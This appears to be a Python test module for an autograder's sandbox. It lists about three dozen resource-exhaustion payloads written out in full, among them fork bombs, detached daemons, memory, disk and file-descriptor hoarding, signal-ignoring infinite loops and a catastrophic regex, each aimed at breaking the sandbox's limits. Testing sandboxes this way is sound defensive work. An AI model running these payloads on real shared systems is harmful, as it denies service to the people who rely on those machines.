"""Exhaust the machine: time, memory, disk, processes, output, and the grader's patience."""

from .kit import ALL, SANDBOXED, Attack, code, right


def alone(name: str, tries: str, source: str, **more: object) -> Attack:
    """A cell of the student's own before right answers: it costs at most itself."""
    source = SANDBOXED + source.strip("\n")
    return Attack(name, tries, right(code(source)), deserves=ALL, **more)


TIME = "was stopped"
_DEAF = """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
"""
_FORKS = (
    "import os\nwhile True:\n    try:\n        os.fork()\n    except BlockingIOError:\n        pass"
)
_DAEMONS = """
import os, time
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(300)
            os._exit(0)
    except BlockingIOError:
        pass
"""
_THREADS = """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(300,)).start()
"""
# Two more than the limit on memory, and an end, should nobody notice.
_MEMFD = """
import os
held = []
for _ in range(16):
    fd = os.memfd_create("x")
    held.append(fd)
    for _ in range(48):
        os.write(fd, bytes(2**20))
print("SANDBOX", "BREACHED")
"""
_SHARED = """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for _ in range(6):
    at = libc.shmat(libc.shmget(0, 2**27, 0o1600), None, 0)
    ctypes.memset(at, 1, 2**27)
    libc.shmdt(ctypes.c_void_p(at))
print("SANDBOX", "BREACHED")
"""
_UNMAPPED = """
import mmap
for _ in range(3):
    held = mmap.mmap(-1, 2**28)
    for at in range(0, 2**28, 4096):
        held[at] = 1
    held.madvise(mmap.MADV_DONTNEED)
    globals()[f"held_{_}"] = held
print("SANDBOX", "BREACHED")
"""
_SOCKETS = """
import os, socket, time
read, write = os.pipe()
block = bytes(2**17)
for _ in range(8):
    if os.fork() == 0:
        held, total = [], 0
        while total < 70 * 2**20 and len(held) < 200:
            held += socket.socketpair()
            for one in held[-2:]:
                one.setblocking(False)
                try:
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                    while True:
                        total += one.send(block)
                except OSError:
                    pass
        os.write(write, f"{total:20}".encode())
        time.sleep(9)
if sum(int(os.read(read, 20)) for _ in range(8)) > 520 * 2**20:
    print("SANDBOX", "BREACHED")
"""
_SCARCE = """
import ctypes, os
libc, watches, terminals = ctypes.CDLL(None), [], []
while len(watches) < 100 and libc.inotify_init() >= 0:
    watches.append(1)
while len(terminals) < 100:
    try:
        terminals.append(os.openpty())
    except OSError:
        break
if len(watches) == 100 or len(terminals) == 100:
    print("SANDBOX", "BREACHED", len(watches), len(terminals))
"""
_DISK = """
import tempfile
n = 0
while True:
    with open(f"{tempfile.gettempdir()}/{n}", "wb") as file:
        file.write(bytes(2**20))
    n += 1
"""
_SPARSE = """
import os
for n in range(10**6):
    os.makedirs("/".join(f"{n:09d}"), exist_ok=True)
    open(f"f{n}", "w").close()
"""
_NAMELESS = """
import os
held = []
for n in range(10**4):
    held.append(open("f", "wb"))
    held[-1].write(bytes(2**21))
    os.unlink("f")
"""
_IN_FLIGHT = """
import os, socket
here, there = socket.socketpair()
for n in range(60):
    with open("f", "wb") as file:
        file.write(bytes(2**21))
        os.unlink("f")
        socket.send_fds(here, [b"x"], [file.fileno()])
print("SANDBOX", "BREACHED")
"""
_OWN_TABLE = """
import ctypes, os, threading
def hide():
    if ctypes.CDLL(None).close_range(900, 901, 2) == 0:
        print("SANDBOX", "BREACHED")
thread = threading.Thread(target=hide)
thread.start()
thread.join()
"""
_RESERVED = """
import ctypes
with open("f", "wb") as file:
    if ctypes.CDLL(None).fallocate(file.fileno(), 1, ctypes.c_long(0), ctypes.c_long(2**28)) == 0:
        print("SANDBOX", "BREACHED")
"""
_DEEP = "import os\nwhile True:\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)"
_LOCKS = """
import fcntl
with open("f", "w+") as file:
    for at in range(0, 10**7, 2):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, at)
"""
_STARVES = """
import ctypes, threading
for place in ("/proc/1/autogroup", f"/proc/{os.getppid()}/autogroup"):
    try:
        open(place, "w").write("19")
        print("SANDBOX", "BREACHED")
    except OSError:
        pass
def spin():
    while True: pass
for _ in range(40):
    threading.Thread(target=spin, daemon=True).start()
held = []
while True:
    held.append(bytearray(10**8))
"""
_WAITS = """
import contextlib, hashlib, os, threading, time
with contextlib.suppress(OSError):
    os.sched_setaffinity(0, {0})
until = time.monotonic() + 60
threading.stack_size(2**18)
def work():
    while time.monotonic() < until:
        hashlib.sha256(bytes(10**6))
for _ in range(12):
    with contextlib.suppress(RuntimeError):
        threading.Thread(target=work, daemon=True).start()
exec("work()")
"""
_NAMED = r"""
import ctypes, time
ctypes.CDLL(None).prctl(15, b"\xff) R 1 1", 0, 0, 0)
time.sleep(0.5)
"""
_BUSY = """
import os, time
for _ in range(40):
    if os.fork() == 0:
        os.setsid()
        until = time.monotonic() + 20
        while time.monotonic() < until:
            pass
        os._exit(0)
"""
_LEFT = """
import atexit, threading, time
class Slow:
    def __del__(self): time.sleep(300)
held = Slow()
atexit.register(time.sleep, 300)
threading.Thread(target=time.sleep, args=(300,)).start()
"""

ATTACKS = (
    alone("fork-bomb", "Forks without end.", _FORKS, flagged="processes"),
    alone("daemons", "Starts processes that detach themselves.", _DAEMONS, flagged="processes"),
    alone("threads", "Starts threads without end.", _THREADS),
    alone("busy", "Keeps 40 processes busy, each in a session of its own.", _BUSY),
    alone("one-array", "Takes all memory at once.", "x = b'x' * 10**11"),
    alone(
        "growing-memory",
        "Takes memory without end.",
        "x = []\nwhile True: x.append(bytearray(10**7))",
    ),
    alone(
        "memory-of-many",
        "Takes memory in many processes.",
        "import os\nfor _ in range(8): os.fork()\nx = bytearray(2**26)\nimport time; time.sleep(9)",
        not_in_stock="the machine that runs the benchmark may not have as much",
    ),
    alone("memfd", "Takes memory as files that have no name.", _MEMFD),
    alone(
        "shared", "Takes memory that no process has mapped.", _SHARED, flagged="crashed the Python"
    ),
    alone("unmapped", "Takes memory and disowns it.", _UNMAPPED),
    alone("sockets", "Takes memory as words that nobody reads.", _SOCKETS),
    alone(
        "scarce",
        "Takes what the TA's programs have few of: watches, terminals.",
        _SCARCE,
        not_in_stock="the machine that runs the benchmark would miss them",
    ),
    alone("disk", "Fills the disk.", _DISK),
    alone(
        "large-file",
        "Writes one file without end.",
        "f = open('f', 'wb')\nwhile True: f.write(bytes(10**6))",
    ),
    alone("small-files", "Makes files and folders without end.", _SPARSE, flagged=TIME),
    alone("nameless", "Fills the disk with files that have no name any more.", _NAMELESS),
    alone("in-flight", "Hides files in messages that nobody reads.", _IN_FLIGHT),
    alone("own-table", "A thread has a table of open files of its own.", _OWN_TABLE),
    alone("reserved", "Reserves room for a file that is larger than a file may be.", _RESERVED),
    alone("folder-in-folder", "Makes a folder in a folder without end.", _DEEP, flagged=TIME),
    alone("locks", "Takes memory as locks of a file.", _LOCKS),
    alone("starves", "Takes the watcher's time, then memory.", _STARVES),
    alone("waits", "Threads wait for each other on one core.", _WAITS, flagged=TIME),
    alone("named", "Has a name that is no text and looks like numbers.", _NAMED),
    alone(
        "open-files", "Opens files without end.", "f = []\nwhile True: f.append(open('/dev/null'))"
    ),
    alone(
        "pids",
        "Uses up the numbers of processes.",
        "import os\nfor _ in range(2000):\n    if os.fork() == 0: os._exit(0)",
    ),
    alone("loop", "Never ends.", "while True: pass", flagged=TIME),
    alone("deaf-loop", "Never ends, and hears no signal.", _DEAF, flagged=TIME),
    alone("c-loop", "Never ends, in C.", "sum(range(10**13))", flagged=TIME),
    alone("number", "Computes a number of a billion digits.", "9 ** 9 ** 9", flagged=TIME),
    alone(
        "pattern",
        "Matches a pattern for years.",
        "import re\nre.match('(a+)+$', 'a' * 50 + 'b')",
        flagged=TIME,
    ),
    alone(
        "stopped",
        "Stops itself.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        flagged=TIME,
    ),
    alone("input", "Waits for an answer.", "input('?')"),
    alone(
        "recursion",
        "Recurs until C's stack is full.",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(x): return f([x][0]) or repr(x)\nf(1)",
    ),
    alone(
        "crash",
        "Crashes the interpreter.",
        "import ctypes\nctypes.string_at(0)",
        flagged="crashed the Python",
    ),
    alone("left-over", "Ends neither its threads nor itself.", _LEFT),
)
